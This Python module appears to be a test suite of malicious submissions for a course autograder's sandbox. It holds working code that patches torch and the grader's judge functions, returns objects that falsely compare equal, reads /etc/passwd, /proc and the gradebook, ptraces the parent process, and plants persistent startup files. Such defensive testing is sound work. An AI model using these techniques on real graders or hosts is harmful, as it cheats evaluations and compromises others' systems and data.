"""Submissions that cheat, spy or destroy. Each says what it deserves: most solve nothing.

``Attack.write`` hands it in. Code runs in a cell of its own in front of the first exercise, in a
notebook whose answers are blank unless said. What leaks is printed after the word LEAK.
"""
# Each attack stands as compactly as it can.
# fmt: off

import re
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import classroom as room

from rlcourse.grading.running.limits import Limits


@dataclass(frozen=True)
class Field:
    """What an attack may aim at: a blank and a perfect notebook, and paths on the grader's side."""

    course: Path
    blank: object
    perfect: object
    outside: Path  # a directory in which anybody may write
    secret: Path  # a file that anybody may read, with the word HIDDEN-TREASURE in it
    port: int  # where somebody listens


@dataclass(frozen=True)
class Attack:
    name: str
    kind: str
    write: Callable[[Field, str], None]
    deserved: float = 0.0
    status: str | None = None  # the status that the instructor must see; None: any
    waits: bool = False  # whether the answer in words has to wait for a person

    def missed(self, row) -> str:
        """What of the instructor's row is not as it should be; "" if nothing is."""
        if self.status not in (None, row.status):
            return f"not {self.status}"
        return "not waiting" * (self.waits and not row.questions["applause"]["answered"])


# The course's, by which its cases are drawn. What is asked twice follows from it, and so what an
# attack by noise earns: the cases asked twice have a loss that is not 0, and so shows the noise.
SECRET = b"attacks on the grader"
# Processor seconds of honest cells and exams are below 1; patience is for busy machines.
LIMITS = Limits(step=2.0, grace=0.5, submission=30.0, patience=8.0, look=0.5)
MEMORY = 512 * 2**20
ATTACKS: list[Attack] = []
TOTAL = sum(room.POINTS.values())


def code(name: str, kind: str, source: str, deserved=0.0, status=None, perfect=False, **answers):
    """An attack by code, run before anything else of the notebook."""

    def write(field: Field, student: str) -> None:
        paths = {"OUTSIDE": field.outside, "SECRET": field.secret, "COURSE": field.course}
        text = source
        for key, value in (paths | {"PORT": field.port, "STUDENT": student}).items():
            text = re.sub(rf"\b{key}\b", str(value), text)
        notebook = room.with_answers(field.perfect if perfect else field.blank, **answers)
        room.submit(field.course, student, room.with_code(notebook, text))

    ATTACKS.append(Attack(name, kind, write, deserved, status))


def answering(name: str, kind: str, deserved=0.0, status=None, **answers):
    """An attack by what the functions themselves do; all of them are answered alike if `every`."""

    def write(field: Field, student: str) -> None:
        room.submit(field.course, student, room.with_answers(field.blank, **answers))

    ATTACKS.append(Attack(name, kind, write, deserved, status))


def by_notebook(name: str, kind: str, make, deserved=0.0, status=None) -> None:
    """An attack by the notebook that `make` returns."""
    ATTACKS.append(Attack(name, kind, lambda field, student: room.submit(
        field.course, student, make(field)), deserved, status))


def every(body: str) -> dict[str, str]:
    """All exercises answered by the same body."""
    indented = body.replace("\n", "\n    ")
    return {name: f"def {name}(*args, **kwargs):\n    {indented}" for name in room.NAMES}


# Patching what judges

code("patch torch.allclose", "patching", """
import torch
for name in ("allclose", "equal", "isclose", "all", "is_nonzero"):
    setattr(torch, name, lambda *a, **k: True)
torch.testing.assert_close = lambda *a, **k: None
for name in ("__eq__", "__le__", "equal", "allclose", "all"):
    setattr(torch.Tensor, name, lambda *a, **k: True)
""", **every("import torch\nreturn torch.tensor(0.5)"))
code("replace check by one that gives points", "patching", """
import rlcourse, rlcourse.student, sys
class Passed:
    points, score, passed, mistake, message = "full", 1.0, True, None, "all right"
    def __repr__(self): return "full"
check = rlcourse.check = rlcourse.student.check = lambda *a, **k: Passed()
for name, module in list(sys.modules.items()):
    if hasattr(module, "check"):
        try: module.check = check
        except Exception: pass
""")
code("patch the judge in the library", "patching", """
import importlib, sys
for home, name in (("exam", "judge"), ("comparing", "compare")):
    try: setattr(importlib.import_module("rlcourse.checks." + home), name, lambda *a, **k: [])
    except Exception as error: print(type(error).__name__)
""", **every("import torch\nreturn torch.tensor(0.5)"))
code("patch the caller that reports outcomes", "patching", """
import sys
from rlcourse.checks.asking import calling
worker = sys.modules.get("rlcourse.grading.untrusted.worker")
def lie(fn, case, repeat=False):
    return calling.Outcome(value=case.arguments.get("logprobs"), gradients={}, changed=())
calling.call = calling._call = lie
if worker: worker.call = lie
""")
code("the reference, from the library", "patching", """
from rlcourse.algorithms import *
from rlcourse.algorithms.policy_gradient import *
import rlcourse.algorithms as library
""", **{n: f"import rlcourse.algorithms as library\n{n} = library.{n}" for n in room.NAMES})

# Lying objects

answering("a tensor subclass that says it is close", "lying", **every("""import torch
class Close(torch.Tensor):
    @classmethod
    def __torch_function__(cls, f, types, args=(), kwargs=None):
        return True
return torch.zeros(3).as_subclass(Close)"""))
answering("an object equal to everything", "lying", **every("""class Any_:
    def __eq__(self, o): return True
    def __getattr__(self, n): return self
    def __call__(self, *a, **k): return self
    def __float__(self): return 1.0
    def __bool__(self): return True
    def __iter__(self): return iter([self])
return Any_()"""))
answering("NaN for an answer", "lying", **every("import torch\nreturn torch.tensor(float('nan'))"))
answering("a value nested without end", "lying", **every("a = []\na.append(a)\nreturn a"))
answering("a result of the size of the disk", "lying",
          **every("import torch\nreturn torch.zeros(1).expand(2**40)"))
answering("a sparse, quantized or complex tensor", "lying",
          **every("import torch\nreturn torch.eye(3).to_sparse() if kwargs else torch.ones(1)*1j"))

# Spying

code("sources, solutions and the gradebook, by their paths", "spying", """
import glob, os, sqlite3
paths = ["SECRET", "COURSE/gradebook.db", "COURSE/.grading-secret", "COURSE/nbgrader_config.py",
         "REPOSITORY/rlcourse/algorithms/policy_gradient.py", "REPOSITORY/README.md",
         "REPOSITORY/rlcourse/checks/judging/exam.py", "/etc/passwd", "/etc/hostname"]
paths += glob.glob("COURSE/**", recursive=True) + glob.glob("REPOSITORY/solutions/*")
for path in paths:
    try: print("LEAK", path, open(path, "rb").read(80))
    except OSError as error: print(type(error).__name__)
""".replace("REPOSITORY", str(room.REPOSITORY)))
code("the whole file system", "spying", """
import os
for root, folders, files in os.walk("/"):
    if root.count("/") > 6: folders.clear()
    for name in files:
        if name.endswith((".ipynb", ".db", ".grading-secret")) or name == "treasure.txt":
            path = os.path.join(root, name)
            try: print("LEAK", path, open(path, "rb").read(20))
            except OSError: pass
""")
code("frames and the garbage collector", "spying", """
import gc, sys
frame = sys._getframe()
while frame:
    for name, value in frame.f_locals.items():
        if "expected" in name or "exercise" in name and not isinstance(value, (str, type(sys))):
            print("LEAK", name)
    frame = frame.f_back
for thing in gc.get_objects():
    kind = type(thing).__name__
    if kind in ("Exam", "Exercise", "Mistake", "Gradebook", "LessonExam"): print("LEAK", kind)
print([m for m in sys.modules if "exercises." in m or "checks." in m])
""")
code("open file descriptors", "spying", """
import os
for fd in range(300):
    try:
        where = os.readlink(f"/proc/self/fd/{fd}") if os.path.exists("/proc/self") else "?"
        os.set_blocking(fd, False)
        if fd != 3: print(fd, where, b"LEAK " + os.read(fd, 64) if os.fstat(fd).st_size else b"")
    except OSError: pass
""")
code("/proc of everybody", "spying", """
import glob, os
for path in glob.glob("/proc/[0-9]*/cmdline") + glob.glob("/proc/[0-9]*/environ"):
    try:
        text = open(path, "rb").read()
        if str(os.getpid()) not in path: print("LEAK", path, text[:60])
    except OSError: pass
for pid in (1, os.getppid()):
    try: print("LEAK", open(f"/proc/{pid}/mem", "rb"))
    except OSError as error: print(type(error).__name__)
""")
code("trace and read the parent", "spying", """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for pid in (os.getppid(), 1, 2):
    if libc.ptrace(16, pid, 0, 0) == 0: print("LEAK attached to", pid)
    buffer = ctypes.create_string_buffer(64)
    if libc.process_vm_readv(pid, buffer, 1, buffer, 1, 0) > 0: print("LEAK", pid)
""")

# Writing

code("write everywhere", "writing", """
import os
for directory in ("OUTSIDE", "COURSE", "COURSE/submitted", "COURSE/autograded", "/", "/tmp",
                  "/var/tmp", "/usr", "/etc", "/dev/shm", "/root", "/home", "..", "REPOSITORY",
                  "REPOSITORY/rlcourse"):
    try:
        with open(os.path.join(directory, "rlcourse-attack"), "w") as file: file.write("x")
        print("wrote", directory)
    except OSError as error: print(type(error).__name__)
""".replace("REPOSITORY", str(room.REPOSITORY)))
code("grades straight into the gradebook", "writing", """
import sqlite3
try:
    base = sqlite3.connect("COURSE/gradebook.db")
    base.execute("update grade set auto_score = 15, manual_score = 99"); base.commit()
    print("LEAK wrote the gradebook")
except Exception as error: print(type(error).__name__)
""")
code("startup files for those who come after", "writing", """
import os, pathlib, site, sys, sysconfig
evil = "import builtins; builtins.all = lambda *a: True\\n"
packages, home = sysconfig.get_path("purelib"), os.path.expanduser("~")
places = [packages + "/zz.pth", packages + "/sitecustomize.py", "/etc/profile.d/x.sh",
          sysconfig.get_path("stdlib") + "/usercustomize.py", home + "/.ipython/startup.py",
          home + "/.config/matplotlib/matplotlibrc"]
for place in places:
    try:
        pathlib.Path(place).parent.mkdir(parents=True, exist_ok=True)
        pathlib.Path(place).write_text(evil)
    except OSError as error: print(type(error).__name__)
""")
code("edit the library for the next one", "writing", """
import rlcourse, pathlib
for path in pathlib.Path(rlcourse.__file__).parent.rglob("*.py"):
    try: path.write_text("raise SystemExit"); print("LEAK wrote", path)
    except OSError: pass
import rlcourse.algorithms as a
for name in dir(a):
    if callable(getattr(a, name)): setattr(a, name, None)
import torch; torch.Tensor.sum = None
""")
